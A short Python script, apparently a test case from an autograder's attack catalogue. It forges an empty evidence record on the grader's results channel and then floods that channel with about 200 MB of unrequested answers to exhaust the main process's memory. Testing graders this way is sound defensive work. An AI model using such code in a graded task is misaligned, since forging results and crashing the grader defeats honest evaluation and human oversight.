# Attack: answers questions nobody asked, to fill the memory of the main process.
# Kind: results
# When: before
# Costs: own

import os
import struct
from autograder.evidence import Evidence, encode

forged = encode(
    Evidence(schema=1, deliverables={}, fits=(), errors=(), names=(), output="", notebook="{}")
)
os.write(3, struct.pack("<cQ", b"E", len(forged)) + forged)
try:
    for _ in range(200):
        os.write(3, struct.pack("<cQ", b"A", 2**20) + bytes(2**20))
except OSError:
    pass
